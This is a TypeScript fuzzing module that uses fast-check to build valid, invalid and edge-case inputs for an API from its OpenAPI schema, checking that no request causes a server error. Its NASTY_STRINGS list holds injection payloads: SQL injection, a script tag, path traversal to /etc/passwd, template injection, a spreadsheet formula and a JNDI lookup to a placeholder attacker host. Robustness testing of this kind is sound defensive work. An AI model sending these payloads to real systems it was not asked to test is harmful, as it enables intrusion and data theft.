import fc from 'fast-check';

/** The parts of an OpenAPI 3 document the fuzzer reads. */
export interface OpenApiSchema {
  $ref?: string;
  type?: string;
  format?: string;
  enum?: unknown[];
  pattern?: string;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  minLength?: number;
  items?: OpenApiSchema;
  properties?: Record<string, OpenApiSchema>;
  required?: string[];
  allOf?: OpenApiSchema[];
  oneOf?: OpenApiSchema[];
}

export interface OpenApiParameter {
  name: string;
  in: string;
  required?: boolean;
  schema?: OpenApiSchema;
}

export interface OpenApiOperation {
  parameters?: OpenApiParameter[];
  requestBody?: { content: Record<string, { schema: OpenApiSchema }> };
  security?: unknown[];
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
  components: { schemas: Record<string, OpenApiSchema> };
}

export function resolve(document: OpenApiDocument, schema: OpenApiSchema | undefined): OpenApiSchema {
  let current = schema ?? {};
  for (let depth = 0; depth < 10; depth++) {
    if (current.$ref) current = document.components.schemas[current.$ref.split('/').pop()!] ?? {};
    else if (current.allOf?.length === 1) current = current.allOf[0];
    else break;
  }
  return current;
}

const NASTY_STRINGS = [
  '',
  ' ',
  'x'.repeat(5000),
  "' OR 1=1 --",
  '"; DROP TABLE targets; --',
  '=HYPERLINK("http://evil.example")',
  '<script>alert(1)</script>',
  '\u0000',
  '\uD800',
  '😀'.repeat(100),
  '../../etc/passwd',
  '%00',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  'NaN',
  '-1',
  '1e309',
  '2016-02-30',
  '00000000-0000-0000-0000-000000000000',
];

/** Any JSON value, of the wrong type as often as not. */
const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string(),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(fc.string(), fc.integer()), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);

/** A value for a schema: often plausible, often not. */
export function valueFor(document: OpenApiDocument, raw: OpenApiSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  const schema = resolve(document, raw);
  const plausible = (() => {
    if (schema.enum?.length) return fc.constantFrom(...schema.enum);
    if (schema.oneOf?.length) return fc.oneof(...schema.oneOf.map((option) => valueFor(document, option, depth + 1)));
    switch (schema.type) {
      case 'string':
        if (schema.format === 'uuid') return fc.uuid();
        if (schema.format === 'date-time' || schema.format === 'date')
          return fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
        return fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom('IT', 'GR', 'FR', 'it'));
      case 'integer':
      case 'number':
        return fc.integer({ min: -5, max: 500 });
      case 'boolean':
        return fc.boolean();
      case 'array':
        return depth > 2 ? fc.constant([]) : fc.array(valueFor(document, schema.items, depth + 1), { maxLength: 3 });
      case 'object':
      default:
        if (schema.properties && depth <= 2) return objectFor(document, schema, depth + 1);
        return anyJson;
    }
  })();
  return fc.oneof({ weight: 3, arbitrary: plausible }, { weight: 1, arbitrary: anyJson });
}

export function objectFor(
  document: OpenApiDocument,
  raw: OpenApiSchema,
  depth = 0,
): fc.Arbitrary<Record<string, unknown>> {
  const schema = resolve(document, raw);
  const properties = schema.properties ?? {};
  const entries = Object.fromEntries(
    Object.entries(properties).map(([name, property]) => [name, valueFor(document, property, depth)]),
  );
  return fc.record(entries, { requiredKeys: [] }) as fc.Arbitrary<Record<string, unknown>>;
}

/** A value the parameter's schema refuses, or undefined when any string would do. */
export function invalidQueryValue(
  document: OpenApiDocument,
  parameter: OpenApiParameter,
): fc.Arbitrary<string> | undefined {
  const schema = resolve(document, parameter.schema);
  const notIn = (values: unknown[]) =>
    fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('NOPE', 'null', '[]', '-1')).filter(
      // Numbers arrive as strings and are converted: ' 1' would still be 1.
      (value) => !values.map(String).includes(value) && !values.includes(Number(value)),
    );
  if (schema.enum?.length) return notIn(schema.enum);
  if (schema.type === 'boolean') return notIn(['true', 'false']);
  if (schema.format === 'uuid')
    return fc
      .oneof(fc.string({ maxLength: 40 }), fc.constant('00000000-0000'))
      .filter((v) => !/^[0-9a-f-]{36}$/i.test(v));
  if (schema.format === 'date-time') return fc.constantFrom('yesterday', '2016-13-45T99:00:00Z', 'not a date', '');
  if (schema.type === 'number' || schema.type === 'integer') {
    const bounds: string[] = ['abc', 'NaN', '1e999x', '12abc'];
    if (schema.minimum !== undefined) bounds.push(String(schema.minimum - 1));
    if (schema.maximum !== undefined) bounds.push(String(schema.maximum + 1));
    return fc.constantFrom(...bounds);
  }
  if (schema.pattern) {
    const pattern = new RegExp(schema.pattern);
    return fc
      .oneof(fc.string({ maxLength: 30 }), fc.constantFrom('UPPER.CASE', 'no dots', ''))
      .filter((v) => !pattern.test(v));
  }
  if (schema.maxLength !== undefined) return fc.constant('q'.repeat(schema.maxLength + 1));
  if (/country|wantedBy|nationality/i.test(parameter.name)) return fc.constantFrom('XX', 'USA', '12', 'I', 'ZZ');
  return undefined;
}

const EDGE_NUMBERS = ['0', '-0', '-1', '1.5', '0x10', '1e3', '2147483648', '9007199254740993', '1e20', '9'.repeat(30)];
const EDGE_DATES = [
  '-271821-04-20T00:00:00.000Z',
  '+275760-09-13T00:00:00.000Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '1970-01-01',
  '2016-02-29T24:00:00Z',
  '2016-05-10T08:30:00+14:00',
  '1',
  '-1',
];

/**
 * Edge values for a query parameter, inside its schema as often as outside: the extremes of numbers
 * and dates (what Postgres cannot store or compute with), and hostile strings. Any answer but a 5xx
 * is acceptable, so they need not be invalid.
 */
export function edgeQueryValue(document: OpenApiDocument, parameter: OpenApiParameter): fc.Arbitrary<string> {
  const schema = resolve(document, parameter.schema);
  const hostile = fc.constantFrom(...NASTY_STRINGS);
  if (schema.enum?.length) return fc.oneof(fc.constantFrom(...schema.enum.map(String)), hostile);
  if (schema.type === 'number' || schema.type === 'integer') {
    const bounds = [...EDGE_NUMBERS];
    for (const bound of [schema.minimum, schema.maximum])
      if (bound !== undefined) bounds.push(String(bound), String(bound - 1), String(bound + 1));
    return fc.oneof(fc.constantFrom(...bounds), fc.integer().map(String), hostile);
  }
  if (schema.format === 'date-time' || schema.format === 'date')
    return fc.oneof(
      fc.constantFrom(...EDGE_DATES),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
      hostile,
    );
  return fc.oneof(hostile, fc.string({ maxLength: 60 }), fc.string({ unit: 'binary', maxLength: 20 }));
}
